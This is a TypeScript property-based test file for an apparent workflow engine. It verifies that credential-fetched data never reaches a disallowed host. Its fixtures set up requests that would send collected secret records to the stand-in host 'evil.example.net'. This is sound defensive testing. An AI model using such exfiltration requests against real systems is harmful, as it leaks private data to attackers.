import { failure } from '@dragoman/protocols';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type LeakyHosts, type LeakyWorkflow, leakyWorkflow, without } from '../../test-support/leaky-workflow.ts';
import { answered, RecordedEffects } from '../../test-support/recorded-effects.ts';
import { TestClock } from '../../test-support/test-clock.ts';
import { compiledFrom } from '../../test-support/workflow-plan.ts';
import { Refused } from '../refusals/refused.ts';
import type { ApiRequest } from './effects.ts';
import type { Label } from './label.ts';
import type { Plan } from './plan.ts';
import { MemoryResultCache } from './result-cache.ts';
import { runPlan } from './run.ts';

const LIMITS = { operations: 100, apiCalls: 1000 };
const CANARY = 'canaryq7x3';
const HOSTS: LeakyHosts = {
  from: 'https://crm.example.com',
  open: 'https://open.example.com',
  to: 'https://evil.example.net',
  credential: 'key',
};
const LABELS: readonly Label[] = [{ from: 'crm.example.com', to: ['crm.example.com'] }];
const PEOPLE = [
  { id: 1, name: `${CANARY} one` },
  { id: 2, name: `${CANARY} two` },
];

describe('data fetched with a credential', () => {
  test('is in no request to another host that is not allowed to carry it, after any operation on it', async () => {
    const cache = new MemoryResultCache({ clock: new TestClock(), maxBytes: 10_000_000 });
    const seen = { sent: 0, refused: 0 };
    await fc.assert(
      fc.asyncProperty(leakyWorkflow(HOSTS), fc.boolean(), async (workflow, cached) => {
        const received: string[] = [];
        const effects = new RecordedEffects((request) => answer(request, received, seen));
        const plan = soundPart(workflow);
        const clock = new TestClock();
        const options = {
          effects,
          clock,
          budgets: { apiCalls: 1000 },
          timeoutMs: 30_000,
          onError: 'continue' as const,
        };
        await runPlan(plan, { ...options, ...(cached && { cache: cache.of('ada') }) });
        seen.sent += received.length;
        expect(received.filter((text) => codings().some((coding) => text.includes(coding)))).toEqual([]);
      }),
      { numRuns: 150 },
    );
    // Else nothing was tried.
    expect(seen.sent).toBeGreaterThan(100);
    expect(seen.refused).toBeGreaterThan(100);
  });

  test('does not spread to what was made without it', async () => {
    const effects = new RecordedEffects((request) => answer(request, [], { refused: 0 }));
    const get = (url: string, outputPath: string, headers: object = {}) => ({
      ApiCall: { method: 'GET', url, outputPath, headers },
    });
    const compiled = compiledFrom(
      {
        ids: get(`${HOSTS.open}/words`, '/workflow/ids'),
        secret: get(`${HOSTS.from}/people`, '/workflow/people', { 'X-Key': { credentialRef: { id: 'key' } } }),
        // The second item runs after the first has fetched something.
        tell: get(`${HOSTS.to}/{/loop/item}`, '/workflow/answer'),
        each: { Loop: { inputPath: '/workflow/ids', operations: ['tell', 'secret'], outputPath: '/workflow/all' } },
        collected: get(`${HOSTS.to}/?q={/workflow/all}`, '/workflow/end'),
      },
      { order: ['ids', 'each', 'collected'] },
    );
    if (!compiled.ok) throw new Error(JSON.stringify(compiled.findings));
    await runPlan(compiled.plan, { effects, clock: new TestClock(), timeoutMs: 30_000, onError: 'continue' });
    const carried = effects.calls.map(({ key, request }) => [key, request.carries.length]);
    expect(carried).toEqual([
      ['ids', 0],
      ['tell[0]', 0],
      ['secret[0]', 0],
      ['tell[1]', 0],
      ['secret[1]', 0],
      ['collected', 1],
    ]);
  });
});

/** The plan of the remaining operations after all that cannot run are removed. */
function soundPart(workflow: LeakyWorkflow): Plan {
  const { operations, order } = workflow;
  const compiled = compiledFrom(operations, { order, level: 'lenient', limits: LIMITS });
  if (compiled.ok) return compiled.plan;
  const wrong = compiled.findings.filter(({ severity }) => severity === 'error');
  return soundPart(
    without(
      workflow,
      wrong.map(({ operationId }) => operationId),
    ),
  );
}

/** The world: as the engine's calls to it are, for one rule. */
function answer(request: ApiRequest, received: string[], seen: { refused: number }) {
  const { url, carries } = request;
  if (url.startsWith(HOSTS.from)) return { ...answered(PEOPLE), labels: LABELS };
  if (url.startsWith(HOSTS.open)) return answered(['a', 'b']);
  if (carries.length > 0) {
    seen.refused += 1;
    throw new Refused(failure('forbidden'));
  }
  const body = request.body !== undefined && 'bytes' in request.body ? Buffer.from(request.body.bytes).toString() : '';
  received.push(`${JSON.stringify({ ...request, body: undefined })}${body}`);
  return answered({ name: 'echo', id: 3 });
}

/** As the operations can spell it, at every alignment. */
function codings(): readonly string[] {
  const core = CANARY.slice(0, 9);
  const base64 = [0, 1, 2].map((skip) => Buffer.from(CANARY.slice(skip, skip + 6)).toString('base64'));
  return [core, core.toUpperCase(), ...base64];
}
